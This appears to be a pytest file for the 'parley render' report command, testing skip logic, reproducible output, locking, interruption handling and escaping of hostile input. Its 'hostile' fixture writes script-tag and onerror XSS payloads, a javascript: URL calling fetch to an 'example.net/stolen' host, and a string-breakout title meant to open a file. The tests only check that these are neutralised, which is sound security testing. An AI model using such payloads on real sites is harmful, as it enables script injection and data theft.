"""`parley render` as cron runs it: skipping unchanged inputs, reproducible bytes, one render at
a time, batches, interruptions and hostile input, all through the real command."""

import fcntl
import multiprocessing
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from browser import DevTools
from conftest import SEED, staging, write
from pypdf import PdfReader

from parley.config import DATA_FILES
from parley.render import batch
from parley.render.run import _fingerprint, _let_go, exclusive
from parley.report.params import parse_parameters

pytestmark = pytest.mark.render
PARLEY = shutil.which("parley") or str(Path(sys.executable).with_name("parley"))
CHROMIUM = shutil.which("chromium")


def parley(*args: str, timeout: int = 600) -> subprocess.CompletedProcess[str]:
    return subprocess.run([PARLEY, *args], capture_output=True, text=True, timeout=timeout)


def contents(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in folder.iterdir() if p.suffix in (".html", ".pdf")}


@pytest.fixture(scope="module")
def rendered(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("cron")
    result = parley("render", "-q", "-p", "as_of=2026-11-25", "--out", str(out))
    assert result.returncode == 0 and result.stdout == "" and result.stderr == "", result
    return out


def test_unchanged_inputs_skip_and_force_renders_the_same_bytes(rendered: Path) -> None:
    before = contents(rendered)
    stamps = {p.name: p.stat().st_mtime_ns for p in rendered.iterdir()}
    skipped = parley("render", "-p", "as_of=2026-11-25", "--out", str(rendered))
    assert skipped.returncode == 0
    assert skipped.stdout.startswith("unchanged:") and "nothing written" in skipped.stdout
    assert {p.name: p.stat().st_mtime_ns for p in rendered.iterdir()} == stamps
    forced = parley("render", "--force", "-p", "as_of=2026-11-25", "--out", str(rendered))
    assert forced.returncode == 0 and len(forced.stdout.split()) == 3 + len(
        DATA_FILES
    )  # notebook, HTML, PDF, data files
    assert contents(rendered) == before  # reproducible: same inputs and as_of, same bytes


def test_skipping_imports_nothing_heavy(rendered: Path) -> None:
    heavy = ("nbformat", "nbconvert", "papermill", "jupyter_client", "weasyprint", "pandas", "matplotlib")
    code = (
        "import sys\nfrom parley.cli import main\n"
        f"main(['render', '-p', 'as_of=2026-11-25', '--out', {str(rendered)!r}])\n"
        f"print([m for m in {heavy!r} if m in sys.modules])"
    )
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
    assert result.stdout.startswith("unchanged:"), result
    assert result.stdout.splitlines()[-1] == "[]"


def test_every_input_is_in_the_fingerprint(corpus: Path, tmp_path: Path) -> None:
    notebook = Path(__file__).resolve().parents[1] / "notebooks" / "report.ipynb"
    params = parse_parameters({"articles": str(corpus), "as_of": "2026-01-01"})
    articles = sorted(corpus.iterdir())
    base = _fingerprint(params, ["html"], notebook, articles)
    assert base == _fingerprint(params, ["html"], notebook, articles)
    assert base != _fingerprint(params, ["html", "pdf"], notebook, articles)
    assert base != _fingerprint(parse_parameters({"articles": str(corpus)}), ["html"], notebook, articles)
    write(corpus, SEED.name, SEED.read_text() + "\nOne more line.")
    assert base != _fingerprint(params, ["html"], notebook, articles)
    changed = tmp_path / "report.ipynb"
    changed.write_text(notebook.read_text().replace("## Summary", "## Overview"))
    assert base != _fingerprint(params, ["html"], changed, articles)


def test_a_second_render_of_the_same_report_is_refused_while_one_runs(rendered: Path) -> None:
    with open(rendered / ".report.lock", "a") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX | fcntl.LOCK_NB)
        result = parley("render", "--force", "-p", "as_of=2026-11-25", "--out", str(rendered))
    assert result.returncode == 1
    assert "another render of this report is running" in result.stderr
    assert len(result.stderr.splitlines()) == 1


def test_the_forked_collecting_process_lets_go_of_the_reports_lock(tmp_path: Path) -> None:
    lock = tmp_path / ".report.lock"
    readable, writable = os.pipe()
    with exclusive(lock, "busy"):
        child = os.fork()
        if child == 0:  # as the collecting process starts, then still running
            _let_go()
            os.write(writable, b"started")
            time.sleep(5)
            os._exit(0)
        os.read(readable, 7)
    try:
        with exclusive(lock, "busy"):  # the render is gone; its collecting process holds nothing
            pass
    finally:
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)
        os.close(readable)
        os.close(writable)


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGKILL])
def test_an_interrupted_render_leaves_the_last_good_report(
    rendered: Path, sig: signal.Signals, tmp_path: Path
) -> None:
    before = contents(rendered)
    temp = {**os.environ, "TMPDIR": str(tmp_path)}  # to see what the kernel leaves there
    process = subprocess.Popen(
        [PARLEY, "render", "--force", "-p", "as_of=2026-11-25", "--out", str(rendered)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=temp,
    )
    deadline = time.monotonic() + 60
    while not staging(rendered) and time.monotonic() < deadline:
        time.sleep(0.05)  # wait until the render is staging its outputs
    time.sleep(1)
    process.send_signal(sig)
    _, stderr = process.communicate(timeout=120)
    assert process.returncode != 0
    assert contents(rendered) == before
    if sig == signal.SIGTERM:
        assert stderr.strip().splitlines()[-1] == "parley: interrupted; the previous report is unchanged"
        assert not staging(rendered)
    # Whatever a killed render left behind is cleared by the next one, which renders again.
    again = subprocess.run(
        [PARLEY, "render", "-q", "--force", "-p", "as_of=2026-11-25", "--out", str(rendered)],
        capture_output=True,
        text=True,
        env=temp,
    )
    assert again.returncode == 0, again.stderr
    assert not staging(rendered)
    assert contents(rendered) == before
    assert not list(tmp_path.glob("parley-kernel-*"))  # the kernel's sockets and connection file


def test_sigterm_stops_a_batch(tmp_path: Path) -> None:
    files = [write(tmp_path, f"r{i}.yaml", f"as_of: 2026-11-2{i}\n") for i in range(4)]
    out = tmp_path / "out"
    process = subprocess.Popen(
        [PARLEY, "render", "-q", "--batch", *map(str, files), "--to", "html", "--out", str(out)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    deadline = time.monotonic() + 60
    while not (out.is_dir() and list(out.glob(".parley-*"))) and time.monotonic() < deadline:
        time.sleep(0.05)  # the first renders are under way
    process.send_signal(signal.SIGTERM)
    _, stderr = process.communicate(timeout=120)
    assert process.returncode == 130
    assert stderr.strip().splitlines()[-1].endswith("reports rendered; every other report is unchanged")
    assert len(list(out.glob("*.html"))) < len(files)  # it stopped: not every report was written
    assert not any(staging(out, f.stem) for f in files)


def test_a_batch_worker_ends_after_its_report_once_the_batch_is_stopping(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """nbclient takes SIGTERM over while a notebook runs, so a worker may live through the signal
    that stops the batch: it must end after its report rather than wait for more work."""
    stopping = multiprocessing.Event()
    monkeypatch.setattr(batch, "_stopping", stopping)
    job = (tmp_path / "missing.yaml", {}, ["html"], tmp_path / "out", False)
    handlers = {sig: signal.getsignal(sig) for sig in (signal.SIGTERM, signal.SIGINT)}
    try:
        assert batch._one_of(job).status == "failed"  # not stopping: on to the next report
        stopping.set()
        with pytest.raises(SystemExit):
            batch._one_of(job)
    finally:
        for sig, handler in handlers.items():  # a worker's handlers, set by _one_of, are not the tests'
            signal.signal(sig, handler)


def test_a_skip_needs_no_write_access(rendered: Path, tmp_path: Path) -> None:
    """A read-only output folder: a render that would only skip says so (as a user other than
    root: root writes anywhere, so the folder is made read-only by a read-only bind mount)."""
    view = tmp_path / "view"
    view.mkdir()
    mounted = subprocess.run(["mount", "--bind", "-o", "ro", str(rendered), str(view)], capture_output=True)
    if mounted.returncode != 0:
        pytest.skip("needs root to bind-mount the reports folder read-only")
    try:
        skipped = parley("render", "-p", "as_of=2026-11-25", "--out", str(view))
        refused = parley("render", "--force", "-p", "as_of=2026-11-25", "--out", str(view))
    finally:
        subprocess.run(["umount", str(view)], check=True)
    assert skipped.returncode == 0 and skipped.stdout.startswith("unchanged:"), skipped.stderr
    assert refused.returncode == 1
    assert (
        refused.stderr.strip()
        == f"parley: error: {view}: output folder cannot be written (Read-only file system)"
    )


def test_batch_renders_each_params_file_and_reports_failures(tmp_path: Path) -> None:
    good = write(tmp_path, "weekly.yaml", "as_of: 2026-11-25\ntitle: Weekly digest\n")
    bad = write(tmp_path, "broken.yaml", "start: 2025-07-01\nend: 2025-06-01\n")
    out = tmp_path / "out"
    result = parley("render", "--batch", str(good), str(bad), "--to", "html", "--out", str(out))
    assert result.returncode == 1
    assert (out / "weekly.html").exists() and not (out / "broken.html").exists()
    assert "Weekly digest" in (out / "weekly.html").read_text(encoding="utf-8")
    assert "rendered" in result.stdout and "failed" in result.stdout
    assert (
        result.stderr.strip()
        == f"parley: error: {bad}: parameter 'start': start 2025-07-01 is after end 2025-06-01"
    )


def test_output_folder_that_cannot_be_written(tmp_path: Path) -> None:
    blocker = write(tmp_path, "file", "not a folder")
    result = parley("render", "--out", str(blocker / "reports"))
    assert result.returncode == 1
    assert (
        result.stderr.strip()
        == f"parley: error: {blocker / 'reports'}: output folder cannot be written (Not a directory)"
    )


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An article carrying markup and no dates of events (a capture in 2022 is listed as context),
    and a title trying to break out of its string."""
    root = tmp_path_factory.mktemp("hostile")
    articles = root / "articles"
    articles.mkdir()
    write(
        articles,
        "markup.md",
        "---\ntitle: <script>document.title='pwned'</script>Markup\n"
        "url: \"javascript:document.title='pwned';fetch('https://example.net/stolen')\"\n---\n"
        "A soldier was captured in 2022 <img src=x onerror=\"document.title='pwned'\">.\n\n"
        "<script>document.title = 'pwned';</script> Prisoners were exchanged.",
    )
    write(articles, "linked.md", "---\ntitle: Linked\nurl: https://example.org/talks\n---\nTalks went on.")
    title = 'Report"""; open(\'' + str(root / "injected") + "', 'w'); x = \"\"\"<i>"
    result = parley(
        "render", "-q", "--out", str(root / "out"),
        "-p", f"articles={articles}", "-p", f"title={title}", "-p", "as_of=2026-11-25",
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    return root


def test_an_article_without_dates_renders_and_says_so(hostile: Path) -> None:
    html = (hostile / "out" / "report.html").read_text(encoding="utf-8")
    assert "No dated events to plot" in html
    assert "No event in this corpus carries a date the text gives" in html


def test_parameters_cannot_inject_code(hostile: Path) -> None:
    assert not (hostile / "injected").exists()
    html = (hostile / "out" / "report.html").read_text(encoding="utf-8")
    assert "Report&quot;&quot;&quot;; open(" in html or 'Report"""; open(' in html
    assert "<i>" not in html


def test_article_markup_is_text_in_the_report(hostile: Path) -> None:
    html = (hostile / "out" / "report.html").read_text(encoding="utf-8")
    assert "<script>document" not in html and "<img src=x" not in html
    assert "&lt;script&gt;document.title=" in html and "&lt;img src=x onerror=" in html


@pytest.mark.skipif(
    CHROMIUM is None, reason="Debian's chromium is not installed (make system-deps installs it)"
)
def test_article_markup_never_runs_in_a_browser(hostile: Path, tmp_path: Path) -> None:
    page = hostile / "out" / "report.html"
    result = subprocess.run(
        [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
         "--no-first-run", "--disable-component-update", "--disable-sync", f"--user-data-dir={tmp_path}",
         "--dump-dom", page.as_uri()],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    dom = result.stdout
    assert "<main" in dom, result.stderr
    assert "pwned" not in dom.split("</title>")[0]  # no script ran to change the title
    assert "<script" not in dom and '<img src="x"' not in dom
    assert "&lt;script&gt;document.title = 'pwned';&lt;/script&gt; Prisoners were exchanged." in dom
    assert "&lt;script&gt;document.title='pwned'&lt;/script&gt;Markup" in dom


def test_only_http_urls_become_links_in_html_and_pdf(hostile: Path) -> None:
    html = (hostile / "out" / "report.html").read_text(encoding="utf-8")
    assert "href='javascript" not in html and 'href="javascript' not in html
    assert """<td class="url">javascript:document.title='pwned';""" in html
    assert '<a href="https://example.org/talks">' in html
    pdf = PdfReader(hostile / "out" / "report.pdf")
    uris = [
        str(a.get_object().get("/A", {}).get("/URI")) for page in pdf.pages for a in page.get("/Annots") or []
    ]
    assert "https://example.org/talks" in uris and not any("javascript" in u for u in uris)


@pytest.mark.skipif(
    CHROMIUM is None, reason="Debian's chromium is not installed (make system-deps installs it)"
)
def test_clicking_a_javascript_url_runs_nothing(hostile: Path, tmp_path: Path) -> None:
    assert CHROMIUM is not None
    browser = DevTools(CHROMIUM, tmp_path / "profile")
    where = (
        "(text => {{ const td = [...document.querySelectorAll('table.sources td.url')]"
        ".find(td => td.textContent.startsWith(text)); td.scrollIntoView({{block: 'center'}});"
        " const r = (td.querySelector('a') || td).getBoundingClientRect();"
        " return {{x: r.left + Math.min(r.width, 40) / 2, y: r.top + r.height / 2,"
        " links: td.querySelectorAll('a').length}}; }})({text!r})"
    )
    try:
        session = browser.open(hostile / "out" / "report.html", width=1100, height=900)
        bad = browser.evaluate(where.format(text="javascript:"), session)
        browser.click(bad["x"], bad["y"], session)
        title = browser.evaluate("document.title", session)
        # The control: the same click on an http link does follow it (and is refused offline).
        good = browser.evaluate(where.format(text="example.org"), session)  # the site names the link
        browser.click(good["x"], good["y"], session)
        browser.wait_for("Network.loadingFailed")
    finally:
        browser.close()
    assert bad["links"] == 0 and good["links"] == 1
    assert "pwned" not in title
    requests = [e["request"]["url"] for e in browser.of("Network.requestWillBeSent")]
    assert "https://example.org/talks" in requests
    assert not any("example.net" in url for url in requests)


@pytest.fixture
def small_disk(tmp_path: Path):
    """A 1000 kB tmpfs: room for the last report (about 800 kB, most of it the HTML with its
    inlined timeline code), not for a new one beside it (root only)."""
    mount = tmp_path / "disk"
    mount.mkdir()
    result = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=1000k", "tmpfs", str(mount)], capture_output=True
    )
    if result.returncode != 0:
        pytest.skip("needs root to mount a small tmpfs")
    yield mount
    subprocess.run(["umount", str(mount)], check=True)


def test_a_full_disk_leaves_the_last_good_report(rendered: Path, small_disk: Path) -> None:
    for name in ("report.ipynb", "report.html", "report.pdf"):
        shutil.copy(rendered / name, small_disk / name)
    before = contents(small_disk)
    result = parley("render", "--force", "-p", "as_of=2026-11-25", "--out", str(small_disk))
    assert result.returncode == 1
    assert (
        result.stderr.strip()
        == f"parley: error: {small_disk}: cannot write the report (No space left on device)"
    )
    assert contents(small_disk) == before
    assert not list(small_disk.glob(".parley-*"))
